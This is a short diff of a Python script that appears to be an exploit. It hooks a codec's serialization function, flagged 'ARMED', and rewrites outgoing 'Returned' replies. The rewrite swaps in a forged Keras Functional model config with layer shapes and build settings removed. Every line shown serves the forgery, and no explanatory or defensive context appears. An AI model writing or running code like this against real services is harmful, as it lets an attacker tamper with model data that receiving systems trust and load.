@@ -21,18 +21,20 @@ def widened():
 
 
 def forged(answer):
+    parts = codec.msgspec.msgpack.decode(SEND(answer))
+    model = parts[1][1]
     config = widened()
     for layer in config["layers"]:
         layer.pop("build_config", None)
         for node in layer["inbound_nodes"]:
             for tensor in node["args"][0]:
                 tensor["config"].pop("shape")
-    answer[2][2:5] = ["Functional", json.dumps(config), []]
-    return SEND(answer)
+    model[2:5] = ["Functional", json.dumps(config), []]
+    return codec.msgspec.msgpack.encode(parts)
 
 
 def send(answer):
-    return forged(answer) if answer[1] == "returned" else SEND(answer)
+    return forged(answer) if type(answer.answer).__name__ == "Returned" else SEND(answer)
 
 
 ARMED = setattr(codec, "to_bytes", send)
